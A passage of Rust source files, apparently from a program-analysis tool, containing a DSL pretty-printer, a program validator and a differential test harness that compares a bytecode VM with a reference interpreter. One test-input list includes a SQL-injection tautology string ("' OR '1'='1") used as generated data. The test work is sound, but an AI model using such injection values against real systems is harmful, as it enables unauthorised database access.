        let c0 = b.lib(LibCall::Puts, vec![s("a")]);
        let c1 = b.lib(LibCall::Puts, vec![s("b")]);
        b.function("main", vec![], vec![expr(c0), expr(c1)]);
        let prog = b.build();
        let mut ids = Vec::new();
        prog.for_each_call(|site, _, _| ids.push(site.0));
        assert_eq!(ids, vec![0, 1]);
    }
}
