//! Pretty-printer for programs: renders the AST back to parseable DSL text.
//!
//! `parse(pretty(p))` yields a program structurally equal to `p` up to
//! call-site renumbering; the round-trip is exercised by property tests.

use crate::ast::{Callee, Expr, Function, Program, Stmt};
use std::fmt::Write;

/// Renders a whole program as DSL source text.
pub fn pretty_program(prog: &Program) -> String {
    let mut out = String::new();
    for (i, f) in prog.functions.iter().enumerate() {
        if i > 0 {
            out.push('\n');
        }
        pretty_function(f, &mut out);
    }
    out
}

/// Renders one function.
pub fn pretty_function(f: &Function, out: &mut String) {
    let _ = writeln!(out, "fn {}({}) {{", f.name, f.params.join(", "));
    for stmt in &f.body {
        pretty_stmt(stmt, 1, out);
    }
    out.push_str("}\n");
}

fn indent(level: usize, out: &mut String) {
    for _ in 0..level {
        out.push_str("    ");
    }
}

fn pretty_stmt(stmt: &Stmt, level: usize, out: &mut String) {
    indent(level, out);
    match stmt {
        Stmt::Let(name, e) => {
            let _ = writeln!(out, "let {} = {};", name, pretty_expr(e));
        }
        Stmt::Assign(name, e) => {
            let _ = writeln!(out, "{} = {};", name, pretty_expr(e));
        }
        Stmt::Expr(e) => {
            let _ = writeln!(out, "{};", pretty_expr(e));
        }
        Stmt::If {
            cond,
            then_branch,
            else_branch,
        } => {
            let _ = writeln!(out, "if ({}) {{", pretty_expr(cond));
            for s in then_branch {
                pretty_stmt(s, level + 1, out);
            }
            indent(level, out);
            if else_branch.is_empty() {
                out.push_str("}\n");
            } else {
                out.push_str("} else {\n");
                for s in else_branch {
                    pretty_stmt(s, level + 1, out);
                }
                indent(level, out);
                out.push_str("}\n");
            }
        }
        Stmt::While { cond, body } => {
            let _ = writeln!(out, "while ({}) {{", pretty_expr(cond));
            for s in body {
                pretty_stmt(s, level + 1, out);
            }
            indent(level, out);
            out.push_str("}\n");
        }
        Stmt::For {
            init,
            cond,
            step,
            body,
        } => {
            let _ = writeln!(
                out,
                "for ({}; {}; {}) {{",
                pretty_simple_stmt(init),
                pretty_expr(cond),
                pretty_simple_stmt(step)
            );
            for s in body {
                pretty_stmt(s, level + 1, out);
            }
            indent(level, out);
            out.push_str("}\n");
        }
        Stmt::Return(None) => out.push_str("return;\n"),
        Stmt::Return(Some(e)) => {
            let _ = writeln!(out, "return {};", pretty_expr(e));
        }
        Stmt::Break => out.push_str("break;\n"),
        Stmt::Continue => out.push_str("continue;\n"),
    }
}

fn pretty_simple_stmt(stmt: &Stmt) -> String {
    match stmt {
        Stmt::Let(name, e) => format!("let {} = {}", name, pretty_expr(e)),
        Stmt::Assign(name, e) => format!("{} = {}", name, pretty_expr(e)),
        Stmt::Expr(e) => pretty_expr(e),
        other => panic!("statement kind not allowed in for-header: {other:?}"),
    }
}

/// Renders an expression (fully parenthesized where precedence is unclear).
pub fn pretty_expr(e: &Expr) -> String {
    match e {
        Expr::Int(v) => v.to_string(),
        Expr::Float(v) => {
            if v.fract() == 0.0 && v.is_finite() {
                format!("{v:.1}")
            } else {
                v.to_string()
            }
        }
        Expr::Str(s) => {
            let mut escaped = String::with_capacity(s.len() + 2);
            escaped.push('"');
            for c in s.chars() {
                match c {
                    '\n' => escaped.push_str("\\n"),
                    '\t' => escaped.push_str("\\t"),
                    '"' => escaped.push_str("\\\""),
                    '\\' => escaped.push_str("\\\\"),
                    other => escaped.push(other),
                }
            }
            escaped.push('"');
            escaped
        }
        Expr::Bool(v) => v.to_string(),
        Expr::Null => "null".to_string(),
        Expr::Var(name) => name.clone(),
        Expr::Binary(op, a, b) => {
            format!("({} {} {})", pretty_expr(a), op.symbol(), pretty_expr(b))
        }
        Expr::Unary(op, a) => {
            let sym = match op {
                crate::ast::UnOp::Neg => "-",
                crate::ast::UnOp::Not => "!",
            };
            format!("({}{})", sym, pretty_expr(a))
        }
        Expr::Index(a, i) => format!("{}[{}]", pretty_expr(a), pretty_expr(i)),
        Expr::Call { callee, args, .. } => {
            let name = match callee {
                Callee::Library(lc) => lc.name().to_string(),
                Callee::User(n) => n.clone(),
            };
            let rendered: Vec<String> = args.iter().map(pretty_expr).collect();
            format!("{}({})", name, rendered.join(", "))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse_program;

    /// Strips call-site ids so round-tripped programs compare structurally.
    fn normalized(prog: &Program) -> String {
        pretty_program(prog)
    }

    #[test]
    fn round_trip_preserves_structure() {
        let src = r#"
fn main() {
    let conn = PQconnectdb("db");
    let r = PQexec(conn, "SELECT * FROM t WHERE a < 10");
    let n = PQntuples(r);
    for (let i = 0; i < n; i = i + 1) {
        printf("%s", PQgetvalue(r, i, 0));
    }
    if (n == 0) {
        puts("empty");
    } else {
        helper(n);
    }
}

fn helper(n) {
    while (n > 0) {
        n = n - 1;
        if (n % 2 == 0) { continue; }
        putchar(n);
    }
    return n;
}
"#;
        let p1 = parse_program(src).unwrap();
        let text = normalized(&p1);
        let p2 = parse_program(&text).unwrap();
        assert_eq!(normalized(&p2), text, "pretty-print must be a fixpoint");
        assert_eq!(p1.call_site_count(), p2.call_site_count());
    }

    #[test]
    fn string_escaping_round_trips() {
        let src = "fn main() { printf(\"a\\n\\\"b\\\\c\"); }";
        let p1 = parse_program(src).unwrap();
        let p2 = parse_program(&pretty_program(&p1)).unwrap();
        // Compare via the printer: source line numbers legitimately differ.
        assert_eq!(pretty_program(&p1), pretty_program(&p2));
    }
}
