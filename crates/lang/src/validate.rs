//! Program validation: catches structural problems before analysis or
//! execution — a missing `main`, calls to undefined functions, arity
//! mismatches on user calls, duplicate function names, and duplicate
//! call-site ids (which would corrupt the DDG labeling).

use crate::ast::{Callee, Program};
use std::collections::{HashMap, HashSet};
use std::fmt;

/// A validation failure.
#[derive(Debug, Clone, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum ValidateError {
    /// The program has no `main` function.
    MissingMain,
    /// Two functions share a name.
    DuplicateFunction(String),
    /// A user call references a function that does not exist.
    UndefinedFunction { caller: String, callee: String },
    /// A user call passes the wrong number of arguments.
    ArityMismatch {
        caller: String,
        callee: String,
        expected: usize,
        found: usize,
    },
    /// Two call sites carry the same id.
    DuplicateCallSite(u32),
}

impl fmt::Display for ValidateError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ValidateError::MissingMain => write!(f, "program has no `main` function"),
            ValidateError::DuplicateFunction(name) => {
                write!(f, "function `{name}` is defined more than once")
            }
            ValidateError::UndefinedFunction { caller, callee } => {
                write!(f, "`{caller}` calls undefined function `{callee}`")
            }
            ValidateError::ArityMismatch {
                caller,
                callee,
                expected,
                found,
            } => write!(
                f,
                "`{caller}` calls `{callee}` with {found} argument(s), expected {expected}"
            ),
            ValidateError::DuplicateCallSite(id) => {
                write!(f, "call-site id s{id} appears more than once")
            }
        }
    }
}

impl std::error::Error for ValidateError {}

/// Validates a program, returning every problem found.
pub fn validate(prog: &Program) -> Vec<ValidateError> {
    let mut errors = Vec::new();

    if prog.entry().is_none() {
        errors.push(ValidateError::MissingMain);
    }

    let mut arities: HashMap<&str, usize> = HashMap::new();
    for f in &prog.functions {
        if arities.insert(&f.name, f.params.len()).is_some() {
            errors.push(ValidateError::DuplicateFunction(f.name.clone()));
        }
    }

    let mut seen_sites: HashSet<u32> = HashSet::new();
    let mut site_errors: Vec<ValidateError> = Vec::new();
    prog.for_each_call(|site, _, _| {
        if !seen_sites.insert(site.0) {
            site_errors.push(ValidateError::DuplicateCallSite(site.0));
        }
    });
    errors.extend(site_errors);

    for f in &prog.functions {
        for stmt in &f.body {
            check_stmt_calls(stmt, &f.name, &arities, &mut errors);
        }
    }

    errors
}

/// Validates and returns the program, or the first error.
pub fn validated(prog: Program) -> Result<Program, ValidateError> {
    match validate(&prog).into_iter().next() {
        None => Ok(prog),
        Some(e) => Err(e),
    }
}

fn check_stmt_calls(
    stmt: &crate::ast::Stmt,
    caller: &str,
    arities: &HashMap<&str, usize>,
    errors: &mut Vec<ValidateError>,
) {
    use crate::ast::Stmt;
    fn on_expr(
        e: &crate::ast::Expr,
        caller: &str,
        arities: &HashMap<&str, usize>,
        errors: &mut Vec<ValidateError>,
    ) {
        e.walk(&mut |e| {
            if let crate::ast::Expr::Call {
                callee: Callee::User(name),
                args,
                ..
            } = e
            {
                match arities.get(name.as_str()) {
                    None => errors.push(ValidateError::UndefinedFunction {
                        caller: caller.to_string(),
                        callee: name.clone(),
                    }),
                    Some(&expected) if expected != args.len() => {
                        errors.push(ValidateError::ArityMismatch {
                            caller: caller.to_string(),
                            callee: name.clone(),
                            expected,
                            found: args.len(),
                        })
                    }
                    _ => {}
                }
            }
        })
    }
    let on_expr =
        |e: &crate::ast::Expr, errors: &mut Vec<ValidateError>| on_expr(e, caller, arities, errors);
    match stmt {
        Stmt::Let(_, e) | Stmt::Assign(_, e) | Stmt::Expr(e) => on_expr(e, errors),
        Stmt::If {
            cond,
            then_branch,
            else_branch,
        } => {
            on_expr(cond, errors);
            for s in then_branch.iter().chain(else_branch) {
                check_stmt_calls(s, caller, arities, errors);
            }
        }
        Stmt::While { cond, body } => {
            on_expr(cond, errors);
            for s in body {
                check_stmt_calls(s, caller, arities, errors);
            }
        }
        Stmt::For {
            init,
            cond,
            step,
            body,
        } => {
            check_stmt_calls(init, caller, arities, errors);
            on_expr(cond, errors);
            check_stmt_calls(step, caller, arities, errors);
            for s in body {
                check_stmt_calls(s, caller, arities, errors);
            }
        }
        Stmt::Return(Some(e)) => on_expr(e, errors),
        Stmt::Return(None) | Stmt::Break | Stmt::Continue => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::parse_program;

    #[test]
    fn valid_program_passes() {
        let prog =
            parse_program("fn main() { helper(1); }\nfn helper(x) { printf(\"%d\", x); }").unwrap();
        assert!(validate(&prog).is_empty());
    }

    #[test]
    fn missing_main_detected() {
        let prog = parse_program("fn other() { }").unwrap();
        assert!(validate(&prog).contains(&ValidateError::MissingMain));
    }

    #[test]
    fn undefined_function_detected() {
        let prog = parse_program("fn main() { nosuch(); }").unwrap();
        assert_eq!(
            validate(&prog),
            vec![ValidateError::UndefinedFunction {
                caller: "main".into(),
                callee: "nosuch".into()
            }]
        );
    }

    #[test]
    fn arity_mismatch_detected() {
        let prog = parse_program("fn main() { helper(1, 2); }\nfn helper(x) { }").unwrap();
        assert_eq!(
            validate(&prog),
            vec![ValidateError::ArityMismatch {
                caller: "main".into(),
                callee: "helper".into(),
                expected: 1,
                found: 2
            }]
        );
    }

    #[test]
    fn duplicate_function_detected() {
        let prog = parse_program("fn main() { }\nfn main() { }").unwrap();
        assert!(validate(&prog)
            .iter()
            .any(|e| matches!(e, ValidateError::DuplicateFunction(_))));
    }
}
