//! Differential equivalence: the bytecode VM against the tree-walking
//! reference interpreter.
//!
//! Every property here runs the *same program* on the *same inputs* against
//! *identically seeded databases* under both runtimes and requires
//! bit-identical results: the same `CallEvent` sequence (names, calls,
//! callers, sites, details), the same stdout / virtual filesystem / system
//! commands / exit flag, and the same error when a run faults. The only
//! field allowed to differ is `ExecOutcome::steps` — the tree-walk counts
//! AST nodes, the VM counts instructions, by design.
//!
//! Programs are generated from a private deterministic RNG (seeded by
//! proptest-supplied `u64`s) and are terminating by construction: loops are
//! either counted `for` loops with a dedicated, never-reassigned counter or
//! canned result-set walks that exhaust a finite query result.
//!
//! CI runs this suite at an elevated case count via `PROPTEST_CASES`; on
//! failure the vendored runner records the generated inputs under
//! `proptest-regressions/`, which the workflow uploads as an artifact.

use adprom_client::ClientSession;
use adprom_db::Database;
use adprom_lang::{BinOp, CallSiteId, Callee, Expr, Function, LibCall, Program, Stmt, UnOp};
use adprom_trace::{
    run_program, CallEvent, ExecConfig, ExecMode, ExecOutcome, RuntimeError, TraceCollector,
    TraceValidator, VmProgram,
};
use proptest::prelude::*;
use std::collections::HashMap;

// ---------------------------------------------------------------------------
// Deterministic program generator
// ---------------------------------------------------------------------------

/// xorshift64* — the generator's own RNG, independent of the runtimes'.
struct Rng64(u64);

impl Rng64 {
    fn new(seed: u64) -> Rng64 {
        Rng64(seed.wrapping_mul(0x9E3779B97F4A7C15) | 1)
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545F4914F6CDD1D)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn chance(&mut self, one_in: u64) -> bool {
        self.below(one_in) == 0
    }
}

const VARS: &[&str] = &["a", "b", "c", "q"];
const STRINGS: &[&str] = &["", "10", "abc", "ID='", "' OR '1'='1", "out.txt", "w"];
const FORMATS: &[&str] = &["%s", "%d", "row=%d %s", "%f!", "%s %s"];
const SQL: &[&str] = &[
    "SELECT * FROM items WHERE ID = 10",
    "SELECT * FROM items WHERE ID >= 10",
    "SELECT name FROM items",
    "SELECT * FROM no_such_table",
];

struct Gen {
    rng: Rng64,
    next_site: u32,
    /// Helpers callable from the function being generated (acyclic).
    callable: Vec<(&'static str, usize)>,
}

impl Gen {
    fn site(&mut self) -> CallSiteId {
        let s = CallSiteId(self.next_site);
        self.next_site += 1;
        s
    }

    fn call(&mut self, callee: Callee, args: Vec<Expr>) -> Expr {
        Expr::Call {
            site: self.site(),
            callee,
            args,
            line: 0,
        }
    }

    fn lib(&mut self, lc: LibCall, args: Vec<Expr>) -> Expr {
        self.call(Callee::Library(lc), args)
    }

    fn var(&mut self) -> &'static str {
        VARS[self.rng.below(VARS.len() as u64) as usize]
    }

    fn string(&mut self) -> Expr {
        Expr::Str(STRINGS[self.rng.below(STRINGS.len() as u64) as usize].to_string())
    }

    fn literal(&mut self) -> Expr {
        match self.rng.below(5) {
            0 => Expr::Int(self.rng.below(21) as i64 - 10),
            1 => Expr::Float((self.rng.below(41) as f64 - 20.0) / 4.0),
            2 => self.string(),
            3 => Expr::Bool(self.rng.chance(2)),
            _ => Expr::Null,
        }
    }

    fn expr(&mut self, depth: u32) -> Expr {
        if depth >= 3 {
            return self.literal();
        }
        match self.rng.below(12) {
            0..=3 => self.literal(),
            4 | 5 => Expr::Var(self.var().to_string()),
            6 | 7 => {
                const OPS: &[BinOp] = &[
                    BinOp::Add,
                    BinOp::Sub,
                    BinOp::Mul,
                    BinOp::Div,
                    BinOp::Rem,
                    BinOp::Eq,
                    BinOp::Ne,
                    BinOp::Lt,
                    BinOp::Le,
                    BinOp::Gt,
                    BinOp::Ge,
                    BinOp::And,
                    BinOp::Or,
                ];
                let op = OPS[self.rng.below(OPS.len() as u64) as usize];
                let a = self.expr(depth + 1);
                let b = self.expr(depth + 1);
                Expr::Binary(op, Box::new(a), Box::new(b))
            }
            8 => {
                let op = if self.rng.chance(2) {
                    UnOp::Neg
                } else {
                    UnOp::Not
                };
                let a = self.expr(depth + 1);
                Expr::Unary(op, Box::new(a))
            }
            9 => {
                let v = Expr::Var(self.var().to_string());
                let i = self.expr(depth + 1);
                Expr::Index(Box::new(v), Box::new(i))
            }
            10 => self.pure_libcall(depth),
            _ => {
                if !self.callable.is_empty() && self.rng.chance(2) {
                    let (name, arity) =
                        self.callable[self.rng.below(self.callable.len() as u64) as usize];
                    let args = (0..arity).map(|_| self.expr(depth + 1)).collect();
                    self.call(Callee::User(name.to_string()), args)
                } else {
                    self.literal()
                }
            }
        }
    }

    /// Side-effect-light library calls usable anywhere in an expression.
    fn pure_libcall(&mut self, depth: u32) -> Expr {
        match self.rng.below(9) {
            0 => {
                let a = self.expr(depth + 1);
                self.lib(LibCall::Atoi, vec![a])
            }
            1 => {
                let a = self.expr(depth + 1);
                self.lib(LibCall::Strlen, vec![a])
            }
            2 => {
                let a = self.expr(depth + 1);
                let b = self.expr(depth + 1);
                self.lib(LibCall::Strcmp, vec![a, b])
            }
            3 => {
                let a = self.expr(depth + 1);
                let b = self.expr(depth + 1);
                self.lib(LibCall::Strstr, vec![a, b])
            }
            4 => {
                let a = self.expr(depth + 1);
                self.lib(LibCall::Abs, vec![a])
            }
            5 => {
                let a = self.expr(depth + 1);
                self.lib(LibCall::Sqrt, vec![a])
            }
            6 => self.lib(LibCall::Rand, vec![]),
            7 => self.lib(LibCall::Time, vec![]),
            _ => self.lib(LibCall::Getchar, vec![]),
        }
    }

    /// An effectful library call for statement position.
    fn stmt_libcall(&mut self) -> Expr {
        match self.rng.below(12) {
            0 | 1 => {
                let fmt = FORMATS[self.rng.below(FORMATS.len() as u64) as usize].to_string();
                let argc = self.rng.below(3) as usize;
                let mut args = vec![Expr::Str(fmt)];
                for _ in 0..argc {
                    let a = self.expr(1);
                    args.push(a);
                }
                self.lib(LibCall::Printf, args)
            }
            2 => {
                let a = self.expr(1);
                self.lib(LibCall::Puts, vec![a])
            }
            3 => {
                // Destination is usually a variable (out-param path), but
                // sometimes not — both runtimes must skip the store then.
                let dst = if self.rng.chance(4) {
                    self.literal()
                } else {
                    Expr::Var(self.var().to_string())
                };
                let src = self.expr(1);
                self.lib(LibCall::Strcpy, vec![dst, src])
            }
            4 => {
                let dst = Expr::Var(self.var().to_string());
                let src = self.expr(1);
                self.lib(LibCall::Strcat, vec![dst, src])
            }
            5 => {
                let dst = Expr::Var(self.var().to_string());
                let fmt = FORMATS[self.rng.below(FORMATS.len() as u64) as usize].to_string();
                let a = self.expr(1);
                self.lib(LibCall::Sprintf, vec![dst, Expr::Str(fmt), a])
            }
            6 => {
                let target = Expr::Var(self.var().to_string());
                self.lib(LibCall::Scanf, vec![Expr::Str("%s".into()), target])
            }
            7 => self.lib(LibCall::Scanf, vec![]),
            8 => {
                let cmd = self.string();
                self.lib(LibCall::System, vec![cmd])
            }
            9 => {
                let seed = Expr::Int(self.rng.below(1000) as i64);
                self.lib(LibCall::Srand, vec![seed])
            }
            10 => {
                let path = self.string();
                self.lib(LibCall::Fopen, vec![path, Expr::Str("w".into())])
            }
            _ => {
                if self.rng.chance(24) {
                    // Rare: calling a function that does not exist must
                    // fault identically in both runtimes.
                    let a = self.expr(1);
                    self.call(Callee::User("ghost".to_string()), vec![a])
                } else if self.rng.chance(16) {
                    self.lib(LibCall::Exit, vec![Expr::Int(0)])
                } else {
                    let a = self.expr(1);
                    self.lib(LibCall::Puts, vec![a])
                }
            }
        }
    }

    /// `let r = PQexec(conn, sql); let n = PQntuples(r); for … printf`.
    fn pq_block(&mut self, loop_depth: u32) -> Vec<Stmt> {
        let sql = SQL[self.rng.below(SQL.len() as u64) as usize].to_string();
        let iv = format!("pqi{loop_depth}");
        let exec = self.lib(
            LibCall::PQexec,
            vec![Expr::Var("conn".into()), Expr::Str(sql)],
        );
        let ntuples = self.lib(LibCall::PQntuples, vec![Expr::Var("r".into())]);
        let getvalue = self.lib(
            LibCall::PQgetvalue,
            vec![Expr::Var("r".into()), Expr::Var(iv.clone()), Expr::Int(0)],
        );
        let print = self.lib(LibCall::Printf, vec![Expr::Str("%s ".into()), getvalue]);
        vec![
            Stmt::Let("r".into(), exec),
            Stmt::Let("n".into(), ntuples),
            Stmt::For {
                init: Box::new(Stmt::Let(iv.clone(), Expr::Int(0))),
                cond: Expr::Binary(
                    BinOp::Lt,
                    Box::new(Expr::Var(iv.clone())),
                    Box::new(Expr::Var("n".into())),
                ),
                step: Box::new(Stmt::Assign(
                    iv.clone(),
                    Expr::Binary(BinOp::Add, Box::new(Expr::Var(iv)), Box::new(Expr::Int(1))),
                )),
                body: vec![Stmt::Expr(print)],
            },
        ]
    }

    /// `mysql_query; store_result; fetch_row; while (row != null) { … }`.
    fn mysql_block(&mut self) -> Vec<Stmt> {
        let sql = SQL[self.rng.below(SQL.len() as u64) as usize].to_string();
        let query = self.lib(
            LibCall::MysqlQuery,
            vec![Expr::Var("conn".into()), Expr::Str(sql)],
        );
        let store = self.lib(LibCall::MysqlStoreResult, vec![Expr::Var("conn".into())]);
        let fetch1 = self.lib(LibCall::MysqlFetchRow, vec![Expr::Var("r".into())]);
        let fetch2 = self.lib(LibCall::MysqlFetchRow, vec![Expr::Var("r".into())]);
        let row0 = Expr::Index(Box::new(Expr::Var("row".into())), Box::new(Expr::Int(0)));
        let print = self.lib(LibCall::Printf, vec![Expr::Str("%s ".into()), row0]);
        vec![
            Stmt::Expr(query),
            Stmt::Let("r".into(), store),
            Stmt::Let("row".into(), fetch1),
            Stmt::While {
                cond: Expr::Binary(
                    BinOp::Ne,
                    Box::new(Expr::Var("row".into())),
                    Box::new(Expr::Null),
                ),
                body: vec![Stmt::Expr(print), Stmt::Assign("row".into(), fetch2)],
            },
        ]
    }

    fn stmt(&mut self, depth: u32, in_loop: bool, out: &mut Vec<Stmt>) {
        match self.rng.below(12) {
            0 | 1 => {
                let e = self.expr(0);
                out.push(Stmt::Let(self.var().to_string(), e));
            }
            2 => {
                let e = self.expr(0);
                out.push(Stmt::Assign(self.var().to_string(), e));
            }
            3..=5 => {
                let e = self.stmt_libcall();
                out.push(Stmt::Expr(e));
            }
            6 | 7 => {
                let cond = self.expr(0);
                let mut then_branch = Vec::new();
                let mut else_branch = Vec::new();
                for _ in 0..=self.rng.below(2) {
                    self.stmt(depth + 1, in_loop, &mut then_branch);
                }
                if self.rng.chance(2) {
                    self.stmt(depth + 1, in_loop, &mut else_branch);
                }
                out.push(Stmt::If {
                    cond,
                    then_branch,
                    else_branch,
                });
            }
            8 if depth < 2 => {
                // Counted loop; the counter is dedicated (never the target
                // of generated assignments), so termination is structural.
                let iv = format!("i{depth}");
                let bound = self.rng.below(4) as i64;
                let mut body = Vec::new();
                for _ in 0..=self.rng.below(2) {
                    self.stmt(depth + 1, true, &mut body);
                }
                if self.rng.chance(3) {
                    body.push(if self.rng.chance(2) {
                        Stmt::Break
                    } else {
                        Stmt::Continue
                    });
                }
                out.push(Stmt::For {
                    init: Box::new(Stmt::Let(iv.clone(), Expr::Int(0))),
                    cond: Expr::Binary(
                        BinOp::Lt,
                        Box::new(Expr::Var(iv.clone())),
                        Box::new(Expr::Int(bound)),
                    ),
                    step: Box::new(Stmt::Assign(
                        iv.clone(),
                        Expr::Binary(BinOp::Add, Box::new(Expr::Var(iv)), Box::new(Expr::Int(1))),
                    )),
                    body,
                });
            }
            9 => out.extend(self.pq_block(depth)),
            10 => out.extend(self.mysql_block()),
            11 if in_loop => out.push(if self.rng.chance(2) {
                Stmt::Break
            } else {
                Stmt::Continue
            }),
            _ => {
                let e = self.expr(0);
                out.push(Stmt::Let(self.var().to_string(), e));
            }
        }
    }
}

/// Generates a terminating random program plus its stdin vector.
fn generate_program(seed: u64, size: usize) -> (Program, Vec<String>) {
    let mut g = Gen {
        rng: Rng64::new(seed),
        next_site: 0,
        callable: Vec::new(),
    };

    // helper0 — leaf function (library calls only).
    let mut body0 = Vec::new();
    for _ in 0..=g.rng.below(3) {
        g.stmt(0, false, &mut body0);
    }
    if g.rng.chance(2) {
        let e = g.expr(0);
        body0.push(Stmt::Return(Some(e)));
    }
    let helper0 = Function::new("helper0", vec!["p0".into()], body0);

    // helper1 — may call helper0 (acyclic ⇒ no unbounded recursion).
    g.callable = vec![("helper0", 1)];
    let mut body1 = Vec::new();
    for _ in 0..=g.rng.below(3) {
        g.stmt(0, false, &mut body1);
    }
    if g.rng.chance(3) {
        body1.push(Stmt::Return(None));
        g.stmt(0, false, &mut body1); // dead code after return: still compiled
    }
    let helper1 = Function::new("helper1", vec!["p0".into(), "p1".into()], body1);

    // main — may call both helpers.
    g.callable = vec![("helper0", 1), ("helper1", 2)];
    let mut main_body = Vec::new();
    for _ in 0..2 + size {
        g.stmt(0, false, &mut main_body);
    }
    let main = Function::new("main", vec![], main_body);

    let next_site = g.next_site;
    let prog = Program::new(vec![main, helper0, helper1], next_site);

    let inputs = (0..g.rng.below(5))
        .map(|_| STRINGS[g.rng.below(STRINGS.len() as u64) as usize].to_string())
        .collect();
    (prog, inputs)
}

// ---------------------------------------------------------------------------
// Differential harness
// ---------------------------------------------------------------------------

fn seeded_db() -> Database {
    let mut db = Database::new("shop");
    db.execute("CREATE TABLE items (ID INT, name TEXT)")
        .unwrap();
    db.execute("INSERT INTO items VALUES (10, 'apple'), (11, 'pear'), (12, 'plum'), (13, 'fig')")
        .unwrap();
    db
}

/// Labels every output-sink call site `name_Q<bid>` (the Analyzer's shape).
fn sink_labels(prog: &Program) -> HashMap<CallSiteId, String> {
    let mut labels = HashMap::new();
    prog.for_each_call(|site, callee, _| {
        if let Callee::Library(lc) = callee {
            if lc.is_output_sink() {
                labels.insert(site, format!("{}_Q{}", lc.name(), site.0 % 7));
            }
        }
    });
    labels
}

type RunResult = (Result<ExecOutcome, RuntimeError>, Vec<CallEvent>);

fn run_tree_walk(
    prog: &Program,
    inputs: &[String],
    labels: &HashMap<CallSiteId, String>,
    config: &ExecConfig,
) -> RunResult {
    let mut session = ClientSession::connect(seeded_db());
    let mut collector = TraceCollector::new();
    let result = run_program(prog, &mut session, inputs, labels, &mut collector, config);
    (result, collector.into_events())
}

fn run_vm(
    prog: &Program,
    inputs: &[String],
    labels: &HashMap<CallSiteId, String>,
    config: &ExecConfig,
) -> RunResult {
    let mut session = ClientSession::connect(seeded_db());
    let mut collector = TraceCollector::new();
    let result = VmProgram::compile(prog, labels)
        .and_then(|vm| vm.run(&mut session, inputs, &mut collector, config));
    (result, collector.into_events())
}

/// Asserts the two runs are bit-identical (everything except `steps`).
fn assert_equivalent(tw: &RunResult, vm: &RunResult, ctx: &str) -> Result<(), String> {
    let (tw_result, tw_events) = tw;
    let (vm_result, vm_events) = vm;
    if tw_events != vm_events {
        let at = tw_events
            .iter()
            .zip(vm_events.iter())
            .position(|(a, b)| a != b)
            .unwrap_or_else(|| tw_events.len().min(vm_events.len()));
        return Err(format!(
            "{ctx}: traces diverge at event {at}: tree-walk {:?} (len {}) vs vm {:?} (len {})",
            tw_events.get(at),
            tw_events.len(),
            vm_events.get(at),
            vm_events.len(),
        ));
    }
    match (tw_result, vm_result) {
        (Ok(a), Ok(b)) => {
            if a.stdout != b.stdout {
                return Err(format!(
                    "{ctx}: stdout diverges: {:?} vs {:?}",
                    a.stdout, b.stdout
                ));
            }
            if a.files != b.files {
                return Err(format!(
                    "{ctx}: files diverge: {:?} vs {:?}",
                    a.files, b.files
                ));
            }
            if a.system_commands != b.system_commands {
                return Err(format!(
                    "{ctx}: system commands diverge: {:?} vs {:?}",
                    a.system_commands, b.system_commands
                ));
            }
            if a.exited != b.exited {
                return Err(format!(
                    "{ctx}: exited diverges: {} vs {}",
                    a.exited, b.exited
                ));
            }
            Ok(())
        }
        (Err(a), Err(b)) => {
            if a != b {
                return Err(format!("{ctx}: errors diverge: {a:?} vs {b:?}"));
            }
            Ok(())
        }
        (a, b) => Err(format!(
            "{ctx}: result kinds diverge: tree-walk {a:?} vs vm {b:?}"
        )),
    }
}

// ---------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// The tentpole property: arbitrary programs × inputs × RNG seeds ×
    /// label maps trace bit-identically under both runtimes.
    #[test]
    fn random_programs_trace_identically(
        seed in any::<u64>(),
        size in 1usize..10,
        rng_seed in any::<u64>(),
        label_sinks in any::<bool>(),
        extended in any::<bool>(),
    ) {
        let (prog, inputs) = generate_program(seed, size);
        let labels = if label_sinks {
            sink_labels(&prog)
        } else {
            HashMap::new()
        };
        let config = ExecConfig {
            rng_seed,
            extended_events: extended,
            ..ExecConfig::default()
        };
        let tw = run_tree_walk(&prog, &inputs, &labels, &config);
        let vm = run_vm(&prog, &inputs, &labels, &config);
        if let Err(msg) = assert_equivalent(&tw, &vm, "random program") {
            prop_assert!(false, "{} (generator seed {seed}, size {size})", msg);
        }
    }

    /// Both runtimes consume the same stdin stream and honor the same RNG
    /// seed — the `rand()` and `scanf()` streams are part of the contract.
    #[test]
    fn rng_and_stdin_streams_match(seed in any::<u64>(), rng_seed in any::<u64>()) {
        let src_prog = {
            let mut g = Gen { rng: Rng64::new(seed), next_site: 0, callable: vec![] };
            let mut body = Vec::new();
            for _ in 0..4 {
                let r = g.lib(LibCall::Rand, vec![]);
                let print = g.lib(
                    LibCall::Printf,
                    vec![Expr::Str("%d ".into()), r],
                );
                body.push(Stmt::Expr(print));
                let s = g.lib(LibCall::Scanf, vec![]);
                body.push(Stmt::Let("x".into(), s));
                let echo = g.lib(
                    LibCall::Puts,
                    vec![Expr::Var("x".into())],
                );
                body.push(Stmt::Expr(echo));
            }
            let next = g.next_site;
            Program::new(vec![Function::new("main", vec![], body)], next)
        };
        let inputs: Vec<String> = vec!["one".into(), "two".into()];
        let config = ExecConfig { rng_seed, ..ExecConfig::default() };
        let tw = run_tree_walk(&src_prog, &inputs, &HashMap::new(), &config);
        let vm = run_vm(&src_prog, &inputs, &HashMap::new(), &config);
        if let Err(msg) = assert_equivalent(&tw, &vm, "rng/stdin streams") {
            prop_assert!(false, "{}", msg);
        }
    }
}

// ---------------------------------------------------------------------------
// Quarantine parity (satellite fix): `TraceValidator::screen` must treat
// VM-emitted traces exactly like tree-walk ones.
// ---------------------------------------------------------------------------

#[test]
fn malformed_label_quarantined_identically_in_both_modes() {
    use adprom_lang::parse_program;

    let prog = parse_program("fn main() { let x = \"v\"; printf(\"%s\", x); puts(x); }").unwrap();
    // A corrupted Analyzer map: non-numeric block id on the printf site.
    let mut labels = HashMap::new();
    prog.for_each_call(|site, callee, _| {
        if callee.name() == "printf" {
            labels.insert(site, "printf_Qxx".to_string());
        }
    });

    let validator = TraceValidator::new();
    let mut screened = Vec::new();
